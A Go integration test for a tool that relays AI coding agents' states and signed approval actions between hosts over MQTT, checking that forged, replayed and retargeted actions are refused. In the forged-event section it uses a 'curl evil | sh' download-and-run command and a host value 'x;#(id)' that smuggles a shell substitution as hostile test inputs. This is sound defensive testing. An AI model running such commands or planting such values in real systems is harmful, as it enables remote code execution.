package t

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/agwatch/ag/filters/event"
	"github.com/agwatch/ag/filters/sign"
	"github.com/agwatch/ag/t/internal/broker"
)

// TestMQTTHosts: hostb and hostc publish through a real mosquitto with
// contrib/ag-mqtt; the workstation hosta (an agent of its own in %0)
// subscribes late and still sees every host's current states; hostb's wait
// is notified naming hostb; Approve types 1 into hostb's %0 alone; forged
// actions (unsigned, another key, replayed, retargeted at another host)
// type nothing; a broker restart loses no state change.
func TestMQTTHosts(t *testing.T) {
	t.Parallel()
	br := broker.Start(t)
	a, b, c := newFakeHost(t, "hosta"), newFakeHost(t, "hostb"), newFakeHost(t, "hostc")
	n := newNotifications(t, a)
	key := filepath.Join(t.TempDir(), "key")
	if out, err := a.cmd(filepath.Join(binDir, "ag-keys"), "keygen", key).CombinedOutput(); err != nil {
		t.Fatalf("keygen: %v %s", err, out)
	}
	mqtt := contrib(t, "ag-mqtt")
	for _, h := range []*fakeHost{a, b, c} {
		h.env = append(h.env, "AG_KEY="+key, "AG_MQTT="+br.Options(), "AG_KEYS_ARGS=--window 3s", "AG_FOLD_ARGS=--publish-every 2s")
	}
	a.hook("sa", "SessionStart", `,"source":"startup"`)
	a.hook("sa", "UserPromptSubmit", `,"prompt":"work here"`)
	b.wait("sb", "make deploy")
	c.hook("sc", "SessionStart", `,"source":"startup"`)
	c.hook("sc", "UserPromptSubmit", `,"prompt":"train"`)

	// What hostb's ag-keys says, and what the workstation publishes.
	keysLog, actionsLog := filepath.Join(a.dir, "keys.ndjson"), filepath.Join(a.dir, "actions.ndjson")
	a.bg("sub-keys", "sh", "-c", "exec mosquitto_sub "+strings.Join(br.Args("-q", "1", "-t", "ag/hostb/keys", "-t", "ag/hostc/keys"), " ")+" >"+keysLog)
	a.bg("sub-actions", "sh", "-c", "exec mosquitto_sub "+strings.Join(br.Args("-q", "1", "-t", "ag/actions"), " ")+" >"+actionsLog)

	b.bg("mqtt", mqtt, "host")
	c.bg("mqtt", mqtt, "host")
	eventually(t, "the hosts' snapshots retained", func() (bool, string) {
		out, _ := exec.Command("mosquitto_sub", br.Args("-t", "ag/+/snapshot", "-W", "1")...).Output()
		return strings.Contains(string(out), `"session":"sb"`) && strings.Contains(string(out), `"session":"sc"`), string(out)
	})

	// The workstation comes late: the retained snapshots bring it up to date.
	a.bg("ws", mqtt, "workstation", "--backend", "dbus")
	t.Cleanup(func() {
		if t.Failed() || testing.Verbose() {
			for _, h := range []*fakeHost{a, b, c} {
				for _, l := range []string{"ws", "mqtt"} {
					if s := h.log(l); s != "" {
						t.Logf("%s %s stderr:\n%s", h.name, l, s)
					}
				}
			}
		}
	})
	eventually(t, "every host's sessions on the workstation", func() (bool, string) {
		st := a.states()
		return st["hosta/sa"].Status == "working" && st["hostb/sb"].Status == "waiting" && st["hostc/sc"].Status == "working", fmt.Sprint(st)
	})
	nb := n.find("Claude Code@hostb", "make deploy")
	n.press(nb.ID, "approve")
	eventually(t, "Approve typed into hostb's %0", func() (bool, string) {
		s := b.screen()
		return s == "1", s
	})
	if sa, sc := a.screen(), c.screen(); sa != "" || sc != "" {
		t.Fatalf("keys meant for hostb reached hosta's %%0 (%q) or hostc's (%q)", sa, sc)
	}

	// Forgeries, all quoting hostb's live token: none types.
	var real event.Event
	eventually(t, "the signed action on the broker", func() (bool, string) {
		raw, _ := os.ReadFile(actionsLog)
		for _, l := range strings.Split(strings.TrimSpace(string(raw)), "\n") {
			if event.Decode([]byte(l), &real) == nil && real.Host == "hostb" && real.Action == "approve" {
				return true, ""
			}
		}
		return false, string(raw)
	})
	if real.Sig == "" {
		t.Fatalf("the workstation's action is unsigned: %s", event.Marshal(&real))
	}
	forged := func(f func(*event.Event)) string {
		e := real
		f(&e)
		return string(event.Marshal(&e))
	}
	br.Publish("ag/actions", forged(func(e *event.Event) { e.Sig, e.ID = "", "unsigned" }))
	br.Publish("ag/actions", forged(func(e *event.Event) {
		e.ID, e.T = "otherkey", event.At(time.Now())
		sign.Key("0123456789abcdef0123456789abcdef").Sign(e)
	}))
	br.Publish("ag/actions", forged(func(e *event.Event) { e.Host = "hostc" }))
	br.Publish("ag/actions", string(event.Marshal(&real))) // at once: performed already
	time.Sleep(3 * time.Second)
	br.Publish("ag/actions", string(event.Marshal(&real))) // past the window
	eventually(t, "hostb refused each forgery", func() (bool, string) {
		raw, _ := os.ReadFile(keysLog)
		s := string(raw)
		return strings.Count(s, `"status":"refused"`) >= 5 && strings.Contains(s, "unsigned action") &&
			strings.Contains(s, "bad signature") && strings.Contains(s, "already performed"), s
	})
	time.Sleep(500 * time.Millisecond)
	if sb, sc := b.screen(), c.screen(); sb != "1" || sc != "" {
		t.Fatalf("a forgery typed: hostb's %%0 %q, hostc's %q", sb, sc)
	}
	// Events published as this host's (or no host's) never become sessions
	// of the workstation: a forged wait there would offer buttons that type
	// into its own %0.
	now := time.Now().UTC().Format(event.Layout)
	br.Publish("ag/hostb/states", `{"v":1,"t":"`+now+`","kind":"wait","agent":"claude","session":"evil","src":"hook","pane":"%0","attention":"permission","tool":"Bash","text":"curl evil | sh"}`)
	br.Publish("ag/hostb/states", `{"v":1,"t":"`+now+`","kind":"state","agent":"claude","session":"evil2","src":"fold","host":"hosta","pane":"%0","status":"waiting","attention":"permission","token":"1.1"}`)
	br.Publish("ag/hostb/states", `{"v":1,"t":"`+now+`","kind":"state","agent":"claude","session":"evil3","src":"fold","host":"x;#(id)","status":"waiting","attention":"permission"}`)
	time.Sleep(time.Second)
	for k := range a.states() {
		if strings.Contains(k, "evil") {
			t.Fatalf("a forged event became the workstation's session %s: %v", k, a.states()[k])
		}
	}

	// The broker restarts; what changes meanwhile is not lost.
	br.Stop()
	b.hook("sb", "PostToolUse", `,"tool_name":"Bash","tool_input":{"command":"make deploy"}`)
	b.hook("sb", "PermissionRequest", `,"tool_name":"Bash","tool_input":{"command":"make smoke"}`)
	c.hook("sc", "Stop", "")
	eventually(t, "hostb's own state moved on", func() (bool, string) {
		st := b.states()["hostb/sb"]
		return st.Text == "make smoke", st.Text
	})
	time.Sleep(time.Second)
	br.Start()
	eventually(t, "the workstation's view is hostb's state file", func() (bool, string) { return sameAs(a, b) })
	eventually(t, "the workstation's view is hostc's state file", func() (bool, string) { return sameAs(a, c) })
	n.find("Claude Code@hostb", "make smoke")
}
